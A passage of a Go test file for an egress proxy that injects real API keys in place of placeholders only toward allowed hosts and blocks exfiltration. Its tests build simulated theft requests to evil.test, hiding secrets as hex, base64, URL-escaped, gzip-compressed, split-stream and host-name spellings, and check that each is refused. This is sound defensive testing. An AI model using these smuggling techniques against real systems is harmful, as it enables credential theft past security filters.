	io.WriteString(rw, phKey)
	if got, _ := io.ReadAll(rw); strings.Contains(string(got), phKey) {
		t.Errorf("the placeholder went through the upgraded connection: %q", got)
	}
	e := f.e.entry(t, func(x Entry) bool { return x.Path == "/upgrade" })
	if e.Verdict != "deny" || !strings.HasPrefix(e.Reason, "exfiltration attempt: API_KEY in an upgraded connection to evil.test") {
		t.Errorf("log entry %+v", e)
	}
}

// Shaped placeholders, as the jail makes them for values with a known
// prefix, bound to api.test with their providers' locations.
const (
	phAnt  = "sk-ant-api03-jailAbcdefghijklmnopqrstuvwxyz0123456789"
	valAnt = "sk-ant-api03-REALrealREALrealREALreal+/0123456789xyz"
	phGem  = "AIzajailBcdefghijklmnopqrstuvwxyz012345"
	valGem = "AIzaSyREALrealREALrealREALrealREALreal0"
	phGh   = "ghp_jailAbcdefghijklmnopqrstuvwxyz012345"
	valGh  = "ghp_REALrealREALrealREALrealREALrealREAL"
)

func locationSecrets() []Secret {
	return []Secret{
		{Name: "ANTHROPIC_API_KEY", Placeholder: phAnt, Value: valAnt, Hosts: []string{"api.test"}, Inject: []string{"header:x-api-key", "header:Authorization"}},
		{Name: "GEMINI_API_KEY", Placeholder: phGem, Value: valGem, Hosts: []string{"api.test"}, Inject: []string{"header:x-goog-api-key", "query:key"}},
		{Name: "GITHUB_TOKEN", Placeholder: phGh, Value: valGh, Hosts: []string{"api.test"}, Inject: []string{"header:Authorization"}},
		{Name: "PLAIN_TOKEN", Placeholder: "jail-secret-PLAIN_TOKEN-q7r8s9", Value: "plain-real-value-0042", Hosts: []string{"api.test"}},
		{Name: "AWS_ACCESS_KEY_ID", Placeholder: "AKIAJAILQRSTUVWXYZ23", Value: "AKIAREALREALREAL2345", Hosts: []string{"api.test"}, Inject: []string{"header:X-Amz-Key"}},
	}
}

// TestSecretLocations: a value goes only where its binding says; a bound
// placeholder anywhere else reaches its host unchanged and the log says
// where it was kept; to any other host it is refused.
func TestSecretLocations(t *testing.T) {
	t.Parallel()
	upCA := memCA(t)
	api, evil := newUpstream(t, upCA, nil), newUpstream(t, upCA, nil)
	e := newEnv(t, Config{
		Rules:    Rules{Allow: []string{"api.test", "evil.test"}, Hosts: map[string]string{"api.test": api.addr(), "evil.test": evil.addr()}},
		Upstream: &tls.Config{RootCAs: pool(upCA)},
		Secrets:  locationSecrets(),
	})
	c := e.client()
	tests := []struct {
		name, path, query, body string
		header                  map[string]string
		basic                   string // a Basic password
		seen, notSeen           []string
		kept                    []string
	}{
		{name: "provider headers", path: "/h1", header: map[string]string{"X-Api-Key": phAnt, "X-Goog-Api-Key": phGem, "Authorization": "token " + phGh},
			seen: []string{"X-Api-Key: " + valAnt, "X-Goog-Api-Key: " + valGem, "Authorization: token " + valGh}},
		{name: "shaped, no common prefix", path: "/h5", header: map[string]string{"X-Amz-Key": "AKIAJAILQRSTUVWXYZ23", "X-Echo": "AKIAJAILQRSTUVWXYZ23"},
			seen: []string{"X-Amz-Key: AKIAREALREALREAL2345", "X-Echo: AKIAJAILQRSTUVWXYZ23"}, kept: []string{"AWS_ACCESS_KEY_ID in the header X-Echo"}},
		{name: "bearer", path: "/h2", header: map[string]string{"Authorization": "Bearer " + phAnt}, seen: []string{"Authorization: Bearer " + valAnt}},
		{name: "basic", path: "/h3", basic: phGh, seen: []string{"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("git:"+valGh))}},
		{name: "another header", path: "/h4", header: map[string]string{"X-Other": phAnt, "X-Plain": "jail-secret-PLAIN_TOKEN-q7r8s9"},
			seen: []string{"X-Other: " + phAnt, "X-Plain: plain-real-value-0042"}, kept: []string{"ANTHROPIC_API_KEY in the header X-Other"}},
		{name: "prompt body", path: "/b", body: `{"prompt":"my key is ` + phAnt + ` and ` + phGem + `"}`, header: map[string]string{"X-Api-Key": phAnt},
			seen: []string{"X-Api-Key: " + valAnt, `"my key is ` + phAnt + ` and ` + phGem + `"`}, notSeen: []string{valAnt + `"`, valGem},
			kept: []string{"ANTHROPIC_API_KEY in the body", "GEMINI_API_KEY in the body"}},
		{name: "query", path: "/q", query: "key=" + phGem + "&q=" + phGem + "&a=" + phAnt,
			seen: []string{"/q?key=" + valGem + "&q=" + phGem + "&a=" + phAnt},
			kept: []string{"GEMINI_API_KEY in the URL query parameter q", "ANTHROPIC_API_KEY in the URL query parameter a"}},
		{name: "path", path: "/p/" + phAnt, seen: []string{"/p/" + phAnt}, kept: []string{"ANTHROPIC_API_KEY in the URL path"}},
	}
	for _, tt := range tests {
		var body io.Reader
		if tt.body != "" {
			body = strings.NewReader(tt.body)
		}
		u := "https://api.test" + tt.path
		if tt.query != "" {
			u += "?" + tt.query
		}
		req, _ := http.NewRequest("POST", u, body)
		req.Header.Set("Content-Type", "application/json")
		for k, v := range tt.header {
			req.Header.Set(k, v)
		}
		if tt.basic != "" {
			req.SetBasicAuth("git", tt.basic)
		}
		if resp, b := do(t, c, req); resp.StatusCode != 200 {
			t.Fatalf("%s: %d %q", tt.name, resp.StatusCode, b)
		}
		got := api.seen()
		for _, s := range tt.seen {
			if !strings.Contains(got, s) {
				t.Errorf("%s: the upstream did not get %q:\n%s", tt.name, s, got)
			}
		}
		for _, s := range tt.notSeen {
			if strings.Contains(got, s) {
				t.Errorf("%s: the upstream got %q:\n%s", tt.name, s, got)
			}
		}
		path := tt.path
		entry := e.entry(t, func(x Entry) bool { return x.Path == path })
		if entry.Verdict != "allow" || !slices.Equal(entry.Kept, tt.kept) {
			t.Errorf("%s: log entry %+v, want kept %q", tt.name, entry, tt.kept)
		}
	}

	// To a host it is not bound to, a placeholder is refused wherever it is.
	req, _ := http.NewRequest("POST", "https://evil.test/x", strings.NewReader(`{"p":"`+phAnt+`"}`))
	req.Header.Set("Content-Type", "application/json")
	if resp, b := do(t, c, req); resp.StatusCode != 403 || strings.Count(b, "\n") != 1 {
		t.Errorf("to evil.test: %d %q", resp.StatusCode, b)
	}
	entry := e.entry(t, func(x Entry) bool { return x.Host == "evil.test" })
	if entry.Verdict != "deny" || !strings.HasPrefix(entry.Reason, "exfiltration attempt: ANTHROPIC_API_KEY in the body to evil.test") {
		t.Errorf("to evil.test: log entry %+v", entry)
	}
	if n := evil.hits.Load(); n != 0 {
		t.Errorf("evil.test received %d requests", n)
	}
}

func TestCheckLocation(t *testing.T) {
	for _, ok := range []string{"header", "header:x-api-key", "header:Authorization", "query", "query:key", "path", "body"} {
		if err := CheckLocation(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []string{"", "headers", "header:", "header:a b", "query:", "query:a&b", "body:x", "path:/", "cookie", "Header"} {
		if err := CheckLocation(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
	if _, err := New(Config{CA: memCA(t), Secrets: []Secret{{Name: "A", Placeholder: phKey, Inject: []string{"everywhere"}}}}); err == nil {
		t.Error("a secret with a bad location accepted")
	}
}

// valueSpellings is every way the tests write valKey (whose '+', '/' and
// '=' make each spelling differ) when sending it.
func valueSpellings() map[string]string {
	sp := map[string]string{
		"raw":               valKey,
		"JSON-escaped":      strings.ReplaceAll(valKey, "/", `\/`), // as some encoders write it
		"URL-escaped query": url.QueryEscape(valKey),
		"URL-escaped path":  url.PathEscape(valKey),
		"URL-escaped lower": strings.ToLower(url.QueryEscape(valKey)),
		"hex":               fmt.Sprintf("%x", valKey),
		"HEX":               fmt.Sprintf("%X", valKey),
	}
	for a := 0; a < 3; a++ {
		padded := strings.Repeat("x", a) + valKey + "tail"
		for name, enc := range map[string]*base64.Encoding{"std": base64.StdEncoding, "url": base64.URLEncoding, "raw-std": base64.RawStdEncoding, "raw-url": base64.RawURLEncoding} {
			sp[fmt.Sprintf("base64 %s %d", name, a)] = enc.EncodeToString([]byte(padded))
		}
		sp[fmt.Sprintf("base64 alone %d", a)] = base64.StdEncoding.EncodeToString([]byte(strings.Repeat("y", a) + valKey))
	}
	return sp
}

func spellingLabel(name string) string {
	switch {
	case strings.HasPrefix(name, "URL"):
		return "URL-escaped"
	case strings.EqualFold(name, "hex"):
		return "hex"
	case strings.HasPrefix(name, "base64"):
		return "base64"
	}
	return name
}

// TestSecretRealValueRefused: the real value, which the jail never saw,
// is refused in every spelling in every part of a request, to its own
// host as to any other, and never reaches either.
func TestSecretRealValueRefused(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	for name, text := range valueSpellings() {
		label := spellingLabel(name)
		for _, host := range []string{"api.test", "evil.test"} {
			for _, where := range []string{"header", "query", "path", "body", "chunked body"} {
				path := "/v/" + strings.ReplaceAll(name, " ", "-") + "/" + where
				u := "https://" + host + path
				var body io.Reader
				switch where {
				case "query":
					u += "?x=1&v=" + text
				case "path":
					u += "/" + text
					path += "/" + text
				case "body":
					body = strings.NewReader(`{"v":"` + text + `"}`)
				case "chunked body":
					pr, pw := io.Pipe()
					go func() {
						io.WriteString(pw, `{"v":"`+text[:len(text)/2])
						time.Sleep(5 * time.Millisecond)
						io.WriteString(pw, text[len(text)/2:]+`"}`)
						pw.Close()
					}()
					body = pr
				}
				req, err := http.NewRequest("POST", u, body)
				if err != nil {
					t.Fatal(err)
				}
				req.Header.Set("Content-Type", "application/json")
				if where == "header" {
					req.Header.Set("X-Data", text)
				}
				resp, err := f.c.Do(req)
				if err != nil {
					t.Fatalf("%s %s %s: %v", name, host, where, err)
				}
				b, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 403 || strings.Count(string(b), "\n") != 1 || !strings.Contains(string(b), "real value of API_KEY") {
					t.Errorf("%s %s %s: %d %q, want 403 and one line", name, host, where, resp.StatusCode, b)
				}
				want := "exfiltration attempt: real value of API_KEY (" + label + ") in the "
				p, _ := url.PathUnescape(path)
				e := f.e.entry(t, func(x Entry) bool {
					return strings.HasPrefix(x.Path, "/v/"+strings.ReplaceAll(name, " ", "-")+"/"+where) && x.Host == host
				})
				if e.Verdict != "deny" || !strings.HasPrefix(e.Reason, want) || !strings.HasSuffix(e.Reason, " to "+host) {
					t.Errorf("%s %s %s (%s): log entry %+v, want %q", name, host, where, p, e, want)
				}
			}
		}
	}
	if n := f.api.hits.Load() + f.evil.hits.Load(); n != 0 {
		t.Errorf("the upstreams received %d requests", n)
	}
	noValues(t, f.e)
}

// splitReader returns its data in two reads, split at n.
type splitReader struct {
	data []byte
	n    int
}

func (r *splitReader) Read(p []byte) (int, error) {
	if len(r.data) == 0 {
		return 0, io.EOF
	}
	k := min(len(p), len(r.data))
	if r.n > 0 {
		k = min(k, r.n)
	}
	r.n = 0
	copy(p, r.data[:k])
	r.data = r.data[k:]
	return k, nil
}

// TestSecretValueSplitAcrossReads: a real value in a streamed body, or in
// a raw tunnel, is found wherever the reads split it, and nothing of it
// is passed on before the refusal.
func TestSecretValueSplitAcrossReads(t *testing.T) {
	ss, err := newSecrets(testSecrets())
	if err != nil {
		t.Fatal(err)
	}
	h, _ := normalizeHost("api.test")
	for name, text := range valueSpellings() {
		data := []byte(`{"a":"before","v":"` + text + `","z":"after"}`)
		for cut := 1; cut < len(data); cut++ {
			in := ss.begin(h, 443)
			rr := newReplacingReader(&splitReader{data: append([]byte(nil), data...), n: cut}, in.rewriter(place{kind: inBody}, escJSON, modeInject))
			out, err := io.ReadAll(rr)
			if err != errSecretValue || in.refused() == nil || in.refused().spelling != spellingLabel(name) {
				t.Fatalf("%s cut at %d: %v, refusal %+v", name, cut, err, in.refused())
			}
			// A base64 text's first characters are the bytes before the
			// value, or share bits with them; those may pass.
			if !bytes.HasPrefix(data, out) || len(out) > strings.Index(string(data), text)+3 {
				t.Fatalf("%s cut at %d: passed on %q", name, cut, out)
			}
			var found *streamHit
			sr := ss.scanStream(&splitReader{data: append([]byte(nil), data...), n: cut}, &found)
			out, err = io.ReadAll(sr)
			if err != errSecretExfil || found == nil || found.spelling != spellingLabel(name) {
				t.Fatalf("%s cut at %d: raw stream: %v, %+v", name, cut, err, found)
			}
			// Less than minHeld bytes of the spelling may pass, after
			// what a base64 text's first characters share.
			if !bytes.HasPrefix(data, out) || len(out) > strings.Index(string(data), text)+3+minHeld-1 {
				t.Fatalf("%s cut at %d: the raw stream passed on %q", name, cut, out)
			}
		}
	}
}

// TestSecretRedactionEveryType: an echoed value is redacted whatever the
// response's type, and its base64 at every alignment.
func TestSecretRedactionEveryType(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		ct := r.URL.Query().Get("ct")
		if ct != "" {
			w.Header().Set("Content-Type", ct)
		}
		a := len(r.URL.Query().Get("a"))
		switch r.URL.Path {
		case "/raw":
			io.WriteString(w, "\x00\x01bin "+valKey+" \xff")
		case "/b64":
			io.WriteString(w, base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", a)+valTok+"\x01\x02")))
		case "/b64url":
			io.WriteString(w, base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat("p", a)+valKey)))
		case "/hex":
			fmt.Fprintf(w, "%x", valTok)
		}
	})
	for _, ct := range []string{"application/octet-stream", "image/png", "", "application/x-unknown-thing", "application/zip"} {
		for _, tt := range []struct{ path, a string }{{"/raw", ""}, {"/hex", ""}, {"/b64", ""}, {"/b64", "a"}, {"/b64", "aa"}, {"/b64url", ""}, {"/b64url", "a"}, {"/b64url", "aa"}} {
			_, body := get(t, f.c, "https://api.test"+tt.path+"?a="+tt.a+"&ct="+url.QueryEscape(ct))
			for _, bad := range leaks(body) {
				t.Errorf("%s%s (a=%d, %q): the response holds %s: %q", "api.test", tt.path, len(tt.a), ct, bad, body)
			}
			if tt.path == "/raw" && !strings.Contains(body, phKey) {
				t.Errorf("%q: raw echo not replaced by the placeholder: %q", ct, body)
			}
			if tt.path == "/hex" && !strings.Contains(body, fmt.Sprintf("%x", phTok)) {
				t.Errorf("%q: hex echo not replaced by the placeholder's hex: %q", ct, body)
			}
		}
	}
}

// leaks says which spellings of valKey or valTok a text holds.
func leaks(s string) []string {
	var out []string
	for _, v := range []string{valKey, valTok} {
		if strings.Contains(s, v) {
			out = append(out, "a raw value")
		}
		if strings.Contains(strings.ToLower(s), fmt.Sprintf("%x", v)) {
			out = append(out, "a hex value")
		}
		for a := 0; a < 3; a++ {
			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding} {
				if strings.Contains(s, string(base64Core(enc, []byte(v), a))) {
					out = append(out, fmt.Sprintf("a base64 value at alignment %d", a))
				}
			}
		}
	}
	return out
}

// TestBase64Redacted: a base64 echo is replaced by the placeholder's
// base64 where the lengths allow, and never keeps the value's core.
func TestBase64Redacted(t *testing.T) {
	const val, ph = "0123456789abcdefghijklmn", "jail-secret-X-abcdefghi" // 24 and 23 bytes
	const same = "jail-secret-X-abcdefghij"                               // as long as val
	for a := 0; a < 3; a++ {
		for _, p := range []string{ph, same} {
			r := base64Redacted(base64.StdEncoding, val, p, a)
			core := base64Core(base64.StdEncoding, []byte(val), a)
			if len(r) != len(core) && !(a == 0 && len(val)%3 == 0 && len(p)%3 == 0) || bytes.Equal(r, core) {
				t.Errorf("a=%d ph %q: %q for %q", a, p, r, core)
			}
		}
		enc := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("z", a) + val + "!!"))
		ss, _ := newSecrets([]Secret{{Name: "X", Placeholder: same, Value: val}})
		dec, err := base64.StdEncoding.DecodeString(ss.redactString(enc))
		if err != nil || !strings.Contains(string(dec), same[1:len(same)-1]) {
			t.Errorf("a=%d: %q decodes to %q (%v), want the placeholder", a, ss.redactString(enc), dec, err)
		}
	}
}

// TestSecretInHostName: a real value spelled into a host name under an
// allowed wildcard, or a placeholder there, is refused before the name
// is looked up, by CONNECT, SOCKS and plain HTTP alike, and the log holds
// the name redacted.
func TestSecretInHostName(t *testing.T) {
	t.Parallel()
	e := newEnv(t, Config{Rules: Rules{Allow: []string{"*.wild.test"}}, Secrets: testSecrets()})
	hexName := fmt.Sprintf("%x", valTok) + ".wild.test"
	phName := strings.ToLower(phTok) + ".wild.test"
	for _, name := range []string{hexName, phName} {
		resp, _, c, _ := raw(t, e.httpAddr, "CONNECT "+name+":443 HTTP/1.1\r\nHost: "+name+":443\r\n\r\n")
		c.Close()
		if resp.StatusCode != 403 {
			t.Errorf("CONNECT %s: %d", name, resp.StatusCode)
		}
		if code, c := socks(t, e.socksAddr, socksConnect, socksDomain, name, 443); code != socksNotAllowed {
			t.Errorf("SOCKS %s: %#x", name, code)
		} else {
			c.Close()
		}
		resp, _, c, _ = raw(t, e.httpAddr, "GET http://"+name+"/x HTTP/1.1\r\nHost: "+name+"\r\n\r\n")
		c.Close()
		if resp.StatusCode != 403 {
			t.Errorf("GET %s: %d", name, resp.StatusCode)
		}
	}
	log := e.logText(t)
	if strings.Count(log, `"verdict":"deny"`) != 6 || strings.Contains(log, fmt.Sprintf("%x", valTok)) || !strings.Contains(log, "real value of OTHER_TOKEN (hex) in the host name") {
		t.Errorf("log:\n%s", log)
	}
}

// TestSecretInGzipBody: a real value or an unbound placeholder in a
// gzip-encoded request body is found as it inflates and refused; a clean
// one is sent on as it came.
func TestSecretInGzipBody(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	zip := func(s string) []byte {
		var b bytes.Buffer
		zw := gzip.NewWriter(&b)
		io.WriteString(zw, s)
		zw.Close()
		return b.Bytes()
	}
	for _, tt := range []struct {
		host, path, body string
		status           int
	}{
		{"api.test", "/gz-value", `{"d":"` + base64.StdEncoding.EncodeToString([]byte(valKey)) + `"}`, 403},
		{"evil.test", "/gz-value", `{"d":"` + valTok + `"}`, 403},
		{"evil.test", "/gz-ph", `{"d":"` + phKey + `"}`, 403},
		{"evil.test", "/gz-clean", strings.Repeat(`{"d":"nothing to see"}`, 100), 200},
	} {
		z := zip(tt.body)
		req, _ := http.NewRequest("POST", "https://"+tt.host+tt.path, bytes.NewReader(z))
		req.Header.Set("Content-Encoding", "gzip")
		req.Header.Set("Content-Type", "application/json")
		if resp, b := do(t, f.c, req); resp.StatusCode != tt.status {
			t.Errorf("%s%s: %d %q, want %d", tt.host, tt.path, resp.StatusCode, b, tt.status)
		}
	}
	// Past the size inflated for the check, the value would ride on
	// compressed and unseen: the body is refused instead, with a length
	// or chunked.
	noise := make([]byte, maxSecretBody+1<<20) // incompressible
	for i := range noise {
		noise[i] = byte(rand.IntN(256))
	}
	big := zip(strings.Repeat("x", 64) + valTok + string(noise))
	for _, chunked := range []bool{false, true} {
		var body io.Reader = bytes.NewReader(big)
		if chunked {
			body = io.MultiReader(bytes.NewReader(big)) // no length: sent chunked
		}
		req, _ := http.NewRequest("POST", "https://evil.test/gz-large", body)
		req.Header.Set("Content-Encoding", "gzip")
		// The proxy answers before the client has sent it all, so the
		// client may see the connection reset instead of the 413.
		if resp, err := f.c.Do(req); err == nil {
			resp.Body.Close()
			if resp.StatusCode != http.StatusRequestEntityTooLarge {
				t.Errorf("a %d MiB gzip body (chunked %v): %d, want 413", len(big)>>20, chunked, resp.StatusCode)
			}
		}
	}
	if got := f.e.entry(t, func(x Entry) bool { return x.Path == "/gz-large" }); got.Verdict != "deny" || !strings.Contains(got.Reason, "gzip request body larger than") {
		t.Errorf("the large gzip body's log entry: %+v", got)
	}
	f.evil.mu.Lock()
	defer f.evil.mu.Unlock()
	if f.evil.hits.Load() != 1 || f.evil.last.URL.Path != "/gz-clean" || f.evil.body != string(zip(strings.Repeat(`{"d":"nothing to see"}`, 100))) {
		t.Errorf("evil.test received %d requests, the last %s", f.evil.hits.Load(), f.evil.last.URL)
	}
	if f.api.hits.Load() != 0 {
		t.Errorf("api.test received %d requests", f.api.hits.Load())
	}
}
